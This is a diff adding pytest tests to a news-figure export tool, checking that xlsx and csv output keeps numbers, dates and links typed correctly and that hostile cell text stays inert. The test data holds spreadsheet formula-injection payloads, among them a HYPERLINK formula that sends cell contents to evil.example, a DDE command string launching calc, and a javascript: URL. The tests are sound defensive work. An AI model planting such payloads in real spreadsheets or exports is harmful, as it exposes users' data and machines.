@@ -5,13 +5,16 @@ from __future__ import annotations
 import csv
 import shutil
 import subprocess
+from datetime import date, datetime
 from pathlib import Path
 
 import openpyxl
 import pytest
 
 from crosscount.core.export import export
-from crosscount.core.pipeline import analyze
+from crosscount.core.model import Article
+from crosscount.core.pipeline import analyze, analyze_articles
+from crosscount.core.xlsx_rows import MAX_CELL_TEXT, Book
 
 HOSTILE = ('=HYPERLINK("http://evil.example/?x="&A1,"click")\n\n'
            "+SUM(1,2) officials said 1,200 soldiers were killed.\n\n"
@@ -47,6 +50,58 @@ def test_workbook_has_sheets_numbers_dates_and_no_formulas(sample_path, hostile_
     assert wb["Charts"]._charts, "a native chart per group"
     rates = wb["Rates"]
     assert rates["A2"].value == "RUB" and rates["E2"].value == "NBP"
+    assert rates["C2"].is_date and isinstance(rates["D2"].value, float)
+    low_cell = next(claims.cell(r, low) for r in range(2, claims.max_row + 1)
+                    if claims.cell(r, text_col).value == "450,000 rubles")
+    assert low_cell.number_format == "#,##0.##"
+    assert [c.value for c in wb["Comparison"][1]][:3] == ["Source", "Outlet", "Article"]
+    assert wb["Comparison"]["A1"].font.b and wb["Comparison"].auto_filter.ref.startswith("A1:R")
+
+
+def test_comparison_links_each_figure_to_its_article(tmp_path):
+    arts = [Article(id="a1", text="Officials said 1,200 soldiers were killed in May.", title="Losses",
+                    outlet="Example News", published="2023-06-02", url="https://news.example/a?x=1&y=2"),
+            Article(id="a2", text="About 1,500 soldiers were killed in May, the ministry said.", title="More",
+                    published="2023-06-03", url="javascript:alert(1)")]
+    out = tmp_path / "links.xlsx"
+    export(analyze_articles(arts), out)
+    ws = openpyxl.load_workbook(out)["Comparison"]
+    header = [c.value for c in ws[1]]
+    link_col, article_col = header.index("Link") + 1, header.index("Article") + 1
+    rows = {ws.cell(r, article_col).value: ws.cell(r, link_col) for r in range(2, ws.max_row + 1)
+            if ws.cell(r, article_col).value}
+    assert rows["Losses"].hyperlink.target == "https://news.example/a?x=1&y=2"
+    assert rows["Losses"].value == "https://news.example/a?x=1&y=2"
+    assert rows["More"].hyperlink is None and rows["More"].value is None  # only web links are links
+    published = ws.cell(next(r for r in range(2, ws.max_row + 1) if ws.cell(r, article_col).value == "Losses"),
+                        header.index("Published") + 1)
+    assert published.value == datetime(2023, 6, 2) and published.number_format == "yyyy-mm-dd"
+
+
+def test_rows_keep_their_types_and_hostile_text_stays_inert_text(tmp_path):
+    book = Book()
+    sheet = book.sheet("Data")
+    number, day = book.style("#,##0.##"), book.style("yyyy-mm-dd")
+    sheet.append(["text", "number", "date", "flag", "link"])
+    sheet.append(["=1+1\x00\x07 <b>&amp;</b>\r\n" + "x" * 40_000, 1234.5, date(2023, 4, 1), True, "site"],
+                 [0, number, day])
+    sheet.link(4, 'https://news.example/a?x=1&y="2"')
+    sheet.append([None, float("nan"), "", " padded ", "\ud800"])
+    sheet.append(["@SUM(A1)", -5, None, False, "=cmd|' /C calc'!A0"])
+    out = tmp_path / "rows.xlsx"
+    with out.open("wb") as fh:
+        book.save(fh)
+    ws = openpyxl.load_workbook(out)["Data"]
+    hostile = ws["A2"]
+    assert hostile.data_type == "s" and hostile.value.startswith("=1+1 <b>&amp;</b>\r\nxxx")
+    assert 32_000 < len(hostile.value) <= MAX_CELL_TEXT
+    assert ws["B2"].value == 1234.5 and ws["B2"].number_format == "#,##0.##"
+    assert ws["C2"].value == datetime(2023, 4, 1) and ws["C2"].is_date
+    assert ws["D2"].value is True and ws["D4"].value is False
+    assert ws["E2"].hyperlink.target == 'https://news.example/a?x=1&y="2"'
+    assert [ws.cell(3, c).value for c in range(1, 6)] == [None, None, None, " padded ", ""]
+    assert ws["A4"].value == "@SUM(A1)" and ws["B4"].value == -5
+    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
 
 
 def test_csv_export_neutralises_formulas(hostile_article, tmp_path):
